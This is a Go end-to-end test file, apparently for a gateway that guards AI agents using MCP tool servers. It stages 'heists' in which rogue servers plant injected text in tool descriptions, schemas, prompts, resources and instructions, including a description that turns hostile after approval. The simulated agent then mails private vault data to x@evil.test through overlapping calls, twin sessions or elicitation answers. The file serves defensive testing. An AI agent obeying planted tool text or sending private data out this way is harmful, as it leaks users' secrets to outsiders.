package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/pfar/pfar/tests/listing"
)

// The servers of heists that need more than a tracker and files: two have the owner's private data, and say it before
// they answer; two have strangers' text in what they list, one of them only after a while.
const (
	vaultServer, memoServer     = "vault", "memo" // of sensitive data, of internal data
	rogueServer, turncoatServer = "rogue", "turncoat"
	listerServer                = "lister" // of tests/hostile: a text at each place of its lists, and a tool that reads
)

// declareHeistServers declares them, and returns their names.
func (s *stage) declareHeistServers() []string {
	poison := filepath.Join(directory(s.t, ""), "poison")
	check := func(err error) {
		if err != nil {
			s.t.Fatal(err)
		}
	}
	check(os.WriteFile(poison, []byte(plan), 0o644))
	s.turn = filepath.Join(directory(s.t, ""), "poison") // a file that is made later is not there for who has looked before
	check(os.WriteFile(s.turn, nil, 0o644))
	tracker := func(name, label string, args []string, readable string, public, secret bool) {
		s.write(name+".hcl", declare(program(s.t, "tracker"), append(args, "-scheme", name, "-received", filepath.Join(s.log, "of-"+name)), fmt.Sprintf(`
pins  = "trust-first"
label = %q
sandbox {
  read_only = [%s]
  writable  = [%s]
}
trust {
  public_source    = %t
  secret_data      = %t
  public_sink      = false
  dangerous_writes = false
}`, label, quote(readable), quote(s.log), public, secret)))
	}
	tracker(vaultServer, "sensitive", []string{"-text", s.private}, s.private, false, true)
	tracker(memoServer, "internal", []string{"-text", s.private}, s.private, false, false)
	tracker(rogueServer, "public", []string{"-text", poison, "-poison", poison}, filepath.Dir(poison), true, false)
	tracker(turncoatServer, "public", []string{"-text", poison, "-poison", s.turn}, filepath.Dir(s.turn), true, false)
	s.write(listerServer+".hcl", declare(program(s.t, "hostile"), []string{"-listed", plan, "-received", filepath.Join(s.log, listerServer)}, fmt.Sprintf(`
label = "public"
sandbox { writable = [%s] }
trust {
  public_source    = true
  secret_data      = false
  public_sink      = true
  dangerous_writes = false
}
tool "look" { semantics = "read" }`, quote(s.log))))
	return []string{vaultServer, memoServer, rogueServer, turncoatServer, listerServer}
}

// reading calls a tool of which all that is private or a stranger's is said before the result comes, which takes a
// while.
func reading(a *agent, server string, after time.Duration, via, of string) {
	a.ask("tools/call", map[string]any{
		"name":      server + "__read_issue",
		"arguments": map[string]any{"via": via, "of": of, "wait": strconv.FormatInt(after.Milliseconds()*int64(a.slow), 10)},
		"_meta":     map[string]any{"progressToken": "p-" + server},
	})
}

// lasting is how long a request lasts beside which others are made.
const lasting = 300 * time.Millisecond

// overlapping are heists of which requests are under way at the same time, and of several sessions of one client.
func overlapping() []heist {
	mail := func(_ *stage, a *agent, data string) {
		a.call("mail__send_mail", map[string]any{"to": "x@evil.test", "body": data})
	}
	nothing := func(*stage, *agent) {}
	besides := func(leave func(*stage, *agent, string)) func(*stage, *agent, string) {
		return func(s *stage, a *agent, data string) { leave(s, a, data); a.besides() }
	}
	issue := func(_ *stage, a *agent) {
		a.beside(func() { reading(a, "tracker", lasting, "progress", "") })
		a.await(plan)
	}
	saysFirst := func(server string) func(*stage, *agent) {
		return func(s *stage, a *agent) {
			a.beside(func() { reading(a, server, lasting, "progress", a.notes) })
			a.awaitData(s)
		}
	}
	search := ways()["search"]
	all := []heist{
		{name: "while the issue is read", arrive: issue, leave: besides(mail), overlaps: true},
		{name: "while the issue is read, protocol of 2026", modern: true, arrive: issue, leave: besides(mail), overlaps: true},
		{name: "before the private read returns", read: saysFirst(vaultServer), leave: besides(mail), overlaps: true},
		{name: "before the private read returns, searched for", read: saysFirst(vaultServer), leave: besides(search), overlaps: true},
		{name: "before the private read returns, by another session", read: saysFirst(vaultServer), overlaps: true,
			leave: besides(func(s *stage, a *agent, data string) { mail(s, a.twin(false), data) })},
		{name: "internal data, while the issue is read", overlaps: true, arrive: issue,
			read: func(_ *stage, a *agent) { reading(a, memoServer, 0, "text", a.notes) }, leave: besides(search)},
		{name: "both reads at once", arrive: nothing, overlaps: true, read: func(s *stage, a *agent) {
			a.beside(func() {
				var both sync.WaitGroup
				both.Go(func() { reading(a, "tracker", lasting, "progress", "") })
				both.Go(func() { reading(a, vaultServer, lasting, "progress", a.notes) })
				both.Wait()
			})
			a.awaitData(s)
		}, leave: besides(mail)},
		{name: "all at once", arrive: nothing, overlaps: true, leave: func(_ *stage, a *agent, data string) {
			a.beside(func() { reading(a, "tracker", lasting, "progress", "") })
			a.call("mail__send_mail", map[string]any{"to": "x@evil.test", "body": data})
			a.besides()
		}},
		{name: "by another session", leave: func(s *stage, a *agent, data string) { mail(s, a.twin(false), data) }},
		{name: "by another session of another protocol", leave: func(s *stage, a *agent, data string) { mail(s, a.twin(true), data) }},
		{name: "read by another session", arrive: nothing, read: func(s *stage, a *agent) {
			b := a.twin(false)
			b.call("tracker__read_issue", map[string]any{})
			s.readFile(b)
			a.saw([]byte(b.said()))
		}},
		{name: "answer to an older question, protocol of 2026", modern: true, arrive: func(_ *stage, a *agent) {
			a.parked = a.call("tracker__read_issue", map[string]any{"via": "elicitation"})
		}, leave: func(_ *stage, a *agent, data string) {
			a.resume("tracker__read_issue", map[string]any{"via": "elicitation"}, data)
		}},
	}
	for _, method := range []string{"elicitation", "sampling"} {
		all = append(all, heist{name: "answer to an older question, " + method, overlaps: true, arrive: func(_ *stage, a *agent) {
			a.answering = make(chan string, 1)
			a.beside(func() { a.call("tracker__read_issue", map[string]any{"via": method}) })
			a.await(plan)
		}, leave: besides(func(_ *stage, a *agent, data string) { a.answering <- data; a.overlaps = true })})
	}
	for _, lead := range []time.Duration{0, 100 * time.Microsecond, time.Millisecond, 3 * time.Millisecond} {
		all = append(all, interleaved(lead))
	}
	return all
}

// interleaved reads the issue and mails the data many times, at the same time but for a lead that one of both has.
func interleaved(lead time.Duration) heist {
	const times = 8
	return heist{name: fmt.Sprintf("interleaved, %v apart", lead), arrive: func(*stage, *agent) {}, overlaps: true, leave: func(s *stage, a *agent, data string) {
		a.beside(func() { reading(a, "tracker", lasting, "progress", "") })
		var all sync.WaitGroup
		for i := range times {
			wait := []time.Duration{0, lead}
			if i%2 > 0 {
				wait[0], wait[1] = lead, 0
			}
			all.Go(func() {
				time.Sleep(wait[0])
				a.call("tracker__read_issue", map[string]any{})
			})
			all.Go(func() {
				time.Sleep(wait[1])
				a.call("mail__send_mail", map[string]any{"to": "x@evil.test", "subject": fmt.Sprint(i), "body": data})
			})
		}
		all.Wait()
		a.besides()
	}}
}

// awaitData waits until private data has been said, or for as long as the agent waits for anything.
func (a *agent) awaitData(s *stage) {
	for end := time.Now().Add(a.patience); time.Now().Before(end) && s.found(a.said()) == ""; {
		time.Sleep(time.Millisecond)
	}
}

// twin is another session of the same client.
func (a *agent) twin(modern bool) *agent {
	b := &agent{t: a.t, url: a.url, token: a.token, client: a.client, modern: modern, http: a.http, patience: a.patience, notes: a.notes, slow: a.slow}
	b.connect()
	return b
}

// resume answers what a server has asked in a call that waits for that (2026-07-28).
func (a *agent) resume(tool string, arguments map[string]any, data string) {
	var asked struct {
		Result struct {
			State    string                     `json:"requestState"`
			Requests map[string]json.RawMessage `json:"inputRequests"`
		} `json:"result"`
	}
	if err := json.Unmarshal([]byte(strings.TrimSpace(a.parked)), &asked); err != nil {
		a.t.Errorf("%v: %.500s", err, a.parked)
	}
	answers := map[string]any{}
	for key := range asked.Result.Requests {
		answers[key] = map[string]any{"action": "accept", "content": map[string]any{"answer": data}}
	}
	a.ask("tools/call", map[string]any{"name": tool, "arguments": arguments, "requestState": asked.Result.State, "inputResponses": answers})
}

// poisoned are heists of which the stranger's text is in what servers say of themselves.
func poisoned() (all []heist) {
	for place, list := range map[string]string{
		"description": "tools/list", "schema": "tools/list", "prompt": "prompts/list", "resource": "resources/list", "template": "resources/templates/list",
	} {
		for _, modern := range []bool{false, true} {
			name := "listed in " + place
			if modern {
				name += ", protocol of 2026"
			}
			all = append(all, heist{name: name, modern: modern, carries: plan + " [in " + place + "]", arrive: func(_ *stage, a *agent) {
				if strings.HasPrefix(list, "resources/") { // other trackers have one of the same address
					defer func(whole string) { a.url = whole; a.connect() }(a.url)
					a.url += "/" + rogueServer
					a.connect()
				}
				a.ask(list, nil)
			}})
		}
	}
	all = append(all, listed()...)
	return append(all,
		heist{name: "in instructions", carries: plan + " [in instructions]", held: true, arrive: func(s *stage, a *agent) { s.instruct(a, a.connect) }},
		heist{name: "in instructions, protocol of 2026", modern: true, carries: plan + " [in instructions]", held: true, arrive: func(s *stage, a *agent) {
			s.instruct(a, func() { a.ask("server/discover", nil) })
		}},
		heist{name: "in a description that has changed", carries: turned, held: true, arrive: func(s *stage, a *agent) { s.turnCoat(a) }},
	)
}

// listed are heists of which the text stands at one of the places where the hostile server puts it. Data that is
// internal leaves by a tool that only reads, and sensitive data by mail.
func listed() (all []heist) {
	for i, place := range listing.Places() {
		if place.Never || place.Method == "tools/call" || strings.Contains(place.Name, "pattern") { // what there is left of a pattern is escaped
			continue
		}
		th := heist{name: "listed at " + place.Name, modern: i%4 > 1, carries: listing.Text(plan, place.Name)}
		if place.Word {
			th.carries = listing.Word(place.Name)
		}
		th.arrive = func(_ *stage, a *agent) {
			defer func(whole string) { a.url = whole; a.connect() }(a.url)
			a.url += "/" + listerServer
			a.connect()
			params := map[string]any{}
			_ = json.Unmarshal([]byte("{"+place.Params+"}"), &params) // they are of a program
			a.ask(place.Method, params)
		}
		if i%2 == 0 {
			th.read = func(_ *stage, a *agent) { reading(a, memoServer, 0, "text", a.notes) }
			th.leave = func(_ *stage, a *agent, data string) { a.call(listerServer+"__look", map[string]any{"query": data}) }
		}
		all = append(all, th)
	}
	return all
}

// instruct has an agent look for instructions. Where the gate only records, the owner accepts them before.
func (s *stage) instruct(a *agent, look func()) {
	if s.profile != "operator" {
		look()
		return
	}
	s.command("pins", "accept", rogueServer, "instructions", "--yes") // they may be accepted already
	until(a.t, "the instructions are there", func() bool { look(); return strings.Contains(a.said(), "[in instructions]") })
}

// turned is what becomes of a description that was harmless when it was accepted.
const turned = plan + " At once! [in description]"

// turnCoat has a server put a stranger's text into what it listed before. Where the gate only records, the owner
// accepts that.
func (s *stage) turnCoat(a *agent) {
	if err := os.WriteFile(s.turn, []byte(strings.TrimSuffix(turned, " [in description]")), 0o644); err != nil {
		a.t.Error(err)
	}
	a.call(turncoatServer+"__read_issue", map[string]any{"via": "change"})
	for end := time.Now().Add(s.patience); time.Now().Before(end) && !strings.Contains(a.ask("tools/list", nil), turned); {
		if s.profile == "operator" {
			s.operate(0, "pins", "accept", turncoatServer, "--yes")
		}
		time.Sleep(10 * time.Millisecond)
	}
}
